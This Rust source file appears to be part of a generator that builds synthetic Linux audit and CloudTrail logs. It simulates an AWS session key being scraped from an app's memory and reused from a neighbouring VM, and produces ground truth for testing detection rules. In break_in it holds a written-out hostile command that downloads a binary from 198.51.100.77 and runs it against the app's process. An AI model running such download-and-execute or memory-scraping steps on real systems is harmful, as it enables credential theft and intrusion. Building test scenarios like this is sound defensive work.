//! A7: a virtual machine's session key is read from memory and used from a neighbour in the same VPC.
//!
//! In: a seed. Out: Linux audit of two machines, CloudTrail, truth. Story in `stolen_session_key.md`.

use super::Scenario;
use super::quiet::{AuditLog, Span};
use crate::emit::cloudtrail::{self, Call, Instance, SessionKey};
use crate::emit::linux_audit::{self, Task};
use crate::moment::{HOUR, MILLI, MINUTE, Moment, SECOND};
use crate::random::Random;
use crate::scene::Scene;
use crate::truth::{Actor, TruthIncident};
use crate::world::moments;

pub(super) const SCENARIO: Scenario = Scenario {
    id: ID,
    title: "A machine's session key, used from its neighbour",
    story: "A tool under nginx reads the app's memory; its AWS key is used from a second machine of the same VPC.",
    environment: include_str!("stolen_session_key.toml"),
    readme: include_str!("stolen_session_key.md"),
    build,
};

const ID: &str = "stolen-session-key";
const CLOUDTRAIL: &str = "cloudtrail.ndjson";
const DELIVERED: &str = "111122223333_CloudTrail_eu-central-1_20260303T1455Z_a1B2c3D4e5F6g7H8.json.gz";
const VM1_AUDIT: &str = "vm1-audit.log";
const VM2_AUDIT: &str = "vm2-audit.log";
const ENDPOINT: &str = "vpce-0123456789abcdef0";
const WWW_DATA: u32 = 33;
const SDK: &str = "Boto3/1.37.4 md/Botocore#1.37.4 ua/2.0 os/linux#6.8.0-1021-aws lang/python#3.12.3";

struct Cast {
    vm1: Instance,
    vm2: Instance,
    nginx: Task,
    app: Task,
}

impl Cast {
    fn new(seed: u64) -> Self {
        let instance = |last: u32, address: &str, role: &str| Instance {
            id: format!("i-0f3a9c27d15e8b40{last}"),
            address: address.to_owned(),
            role: role.to_owned(),
            role_id: format!("AROA{}", Random::named(seed, role).capitals(17)),
        };
        Self {
            vm1: instance(1, "172.31.5.10", "shop-app"),
            vm2: instance(2, "172.31.7.20", "shop-report"),
            nginx: Task::new(
                812,
                1,
                WWW_DATA,
                "/usr/sbin/nginx",
                &["nginx", "-g", "daemon off; master_process off;"],
            ),
            app: Task::new(
                940,
                1,
                WWW_DATA,
                "/usr/bin/python3.12",
                &["/usr/bin/python3.12", "/srv/app/main.py"],
            ),
        }
    }
}

fn build(seed: u64) -> Scene {
    let mut scene = Scene::default();
    let t0 = Moment::day(2026, 3, 3) + 15 * HOUR;
    // Keys are renewed on the half hour: VM 1 holds one key through all of the attack.
    let all = Span { from: t0 - 5 * HOUR - 30 * MINUTE, until: t0 + 20 * MINUTE };
    let cast = Cast::new(seed);
    let key = cloud_life(&mut scene, seed, &cast, all, t0);
    let mut audit = AuditLog::new(VM1_AUDIT, &cast.vm1.id, 310, true);
    quiet_host(&mut audit, seed, &cast, all);
    break_in(&mut audit, &cast, t0);
    audit.finish(&mut scene);
    let mut audit = AuditLog::new(VM2_AUDIT, &cast.vm2.id, 290, true);
    audit.services(&mut Random::named(seed, "VM 2"), Span { from: all.from + 40 * SECOND, ..all });
    audit.finish(&mut scene);
    abuse(&mut scene, seed, &cast, &key, t0);
    scene.rotate(CLOUDTRAIL, t0 - 5 * MINUTE, DELIVERED);
    truth(&mut scene, &cast, &key, t0);
    scene
}

/// Machines are started, get keys each hour, and use them. Returns the key that VM 1 holds at `t0`.
fn cloud_life(scene: &mut Scene, seed: u64, cast: &Cast, all: Span, t0: Moment) -> SessionKey {
    let mut stolen = None;
    for (vm, operation, parameters) in [
        (&cast.vm1, ("ssm.amazonaws.com", "GetParameter"), [("name", "/shop/app/flags")]),
        (&cast.vm2, ("cloudwatch.amazonaws.com", "GetMetricData"), [("maxDatapoints", "100")]),
    ] {
        let random = &mut Random::named(seed, &vm.id);
        scene.line(CLOUDTRAIL, all.from, cloudtrail::run_instances(random, all.from, vm));
        let mut keys = Vec::new();
        let mut issued = all.from + 31 * SECOND;
        while issued < all.until {
            let key = SessionKey::new(random, issued);
            scene.line(CLOUDTRAIL, issued, cloudtrail::assume_role(random, vm, &key));
            keys.push(key);
            issued = issued + 58 * MINUTE + random.between(0, 4 * MINUTE);
        }
        let held = |at: Moment| keys.iter().rev().find(|key| key.issued + 10 * SECOND < at);
        for at in moments(random, all.from + 2 * MINUTE, all.until, 5 * MINUTE) {
            let Some(key) = held(at) else { continue };
            let source = &vm.address;
            let call = Call {
                at,
                instance: vm,
                key,
                source,
                agent: SDK,
                operation,
                parameters: &parameters,
                endpoint: Some(ENDPOINT),
            };
            scene.line(CLOUDTRAIL, at, cloudtrail::call(random, &call));
        }
        if vm.id == cast.vm1.id {
            stolen = held(t0).cloned();
        }
    }
    stolen.expect("VM 1 got keys at its start")
}

fn quiet_host<'a>(audit: &mut AuditLog<'a>, seed: u64, cast: &'a Cast, all: Span) {
    let started = all.from + 40 * SECOND;
    for (index, task) in (0i64..).zip([&cast.nginx, &cast.app]) {
        audit.add(started + index * SECOND, None, move |stamp| linux_audit::exec(stamp, task, "/srv"));
    }
    let random = &mut Random::named(seed, "VM 1");
    let span = Span { from: started + MINUTE, ..all };
    audit.services(random, span);
    // nginx asks the app behind it while the app asks AWS: two events, their records interleaved.
    for at in moments(random, span.from, span.until, 20 * MINUTE) {
        audit.add(at, None, |stamp| linux_audit::connect(stamp, &cast.nginx, [127, 0, 0, 1], 8_000));
        audit.add(at + 70_000, None, |stamp| linux_audit::connect(stamp, &cast.app, [172, 31, 0, 2], 443));
    }
}

/// nginx starts a shell, the shell a tool from `/tmp`, the tool reads the app's memory.
fn break_in<'a>(audit: &mut AuditLog<'a>, cast: &'a Cast, t0: Moment) {
    let line = "curl -so /tmp/.cache/mg http://198.51.100.77/mg; chmod +x /tmp/.cache/mg; /tmp/.cache/mg 940";
    let shell = Task::new(61_204, cast.nginx.pid, WWW_DATA, "/usr/bin/dash", &["sh", "-c", line]);
    let tool = Task::new(61_207, shell.pid, WWW_DATA, "/tmp/.cache/mg", &["/tmp/.cache/mg", "940"]);
    let (tracing, reading) = (tool.clone(), tool.clone());
    let mark = |role| Some((Actor::Attacker, role));
    let at = t0 + 4 * SECOND;
    audit.add(t0, mark("shell"), move |stamp| linux_audit::exec(stamp, &shell, "/var/www"));
    audit.add(at, mark("tool"), move |stamp| linux_audit::exec(stamp, &tool, "/var/www"));
    audit.add(at + 20 * MILLI, mark("memory-read"), move |stamp| {
        linux_audit::ptrace(stamp, &tracing, &cast.app)
    });
    audit.add(at + 31 * MILLI, mark("memory-read"), move |stamp| {
        linux_audit::read_memory(stamp, &reading, &cast.app, 65_536)
    });
}

/// A call of the session key: seconds after the start, from where, what (service and call), with which parameters.
type Step<'a> = (i64, &'a str, (&'a str, &'a str), &'a [(&'a str, &'a str)]);

/// The key is used from VM 2, while VM 1 goes on using it.
fn abuse(scene: &mut Scene, seed: u64, cast: &Cast, key: &SessionKey, t0: Moment) {
    let random = &mut Random::named(seed, "abuse");
    let flags = [("name", "/shop/app/flags")];
    let secret = [("secretId", "shop/payments-db")];
    let ssm = ("ssm.amazonaws.com", "GetParameter");
    let buckets = ("s3.amazonaws.com", "ListBuckets");
    let secrets = ("secretsmanager.amazonaws.com", "GetSecretValue");
    let (vm1, vm2) = (&cast.vm1.address, &cast.vm2.address);
    let steps: [Step<'_>; 6] = [
        (70, vm1, ssm, &flags),
        (95, vm2, buckets, &[]),
        (130, vm1, ssm, &flags),
        (160, vm2, secrets, &secret),
        (190, vm1, ssm, &flags),
        (220, vm2, secrets, &secret),
    ];
    for (secs, source, operation, parameters) in steps {
        let at = t0 + secs * SECOND;
        let by_thief = source == vm2;
        let agent = if by_thief { "aws-cli/2.24.9 ua/2.1 os/linux#6.8.0-1021-aws" } else { SDK };
        let endpoint = Some(ENDPOINT);
        let call = Call { at, instance: &cast.vm1, key, source, agent, operation, parameters, endpoint };
        let mark = if by_thief { (Actor::Attacker, "use") } else { (Actor::Benign, "owner-use") };
        scene.marked(CLOUDTRAIL, at, mark, cloudtrail::call(random, &call));
    }
}

fn truth(scene: &mut Scene, cast: &Cast, key: &SessionKey, t0: Moment) {
    let texts = |texts: &[&str]| texts.iter().map(|text| (*text).to_owned()).collect::<Vec<String>>();
    for rule in ["CT-101", "CT-104"] {
        scene.expect(ID, rule, &key.id);
    }
    for rule in ["CT-202", "CT-203"] {
        scene.expect(ID, rule, WORKLOAD);
    }
    scene.incident(TruthIncident {
        scenario: ID.to_owned(),
        catalogue: "A7".to_owned(),
        t0: t0.text(9),
        credentials: vec![key.id.clone()],
        workloads: texts(&[WORKLOAD]),
        hosts: texts(&[&cast.vm1.id, &cast.vm2.id]),
        reached: texts(&["s3", "secretsmanager"]),
        denied: Vec::new(),
        host_layer: "bypassed".to_owned(),
        identity_layer: "bypassed".to_owned(),
        first_failed: texts(&["credential-confidentiality"]),
        first_absent: texts(&["binding-check"]),
        outcome: "not_contained".to_owned(),
        detectable_within_seconds: 10,
    });
}

const WORKLOAD: &str = "spiffe://prod.example/vm/shop-app";
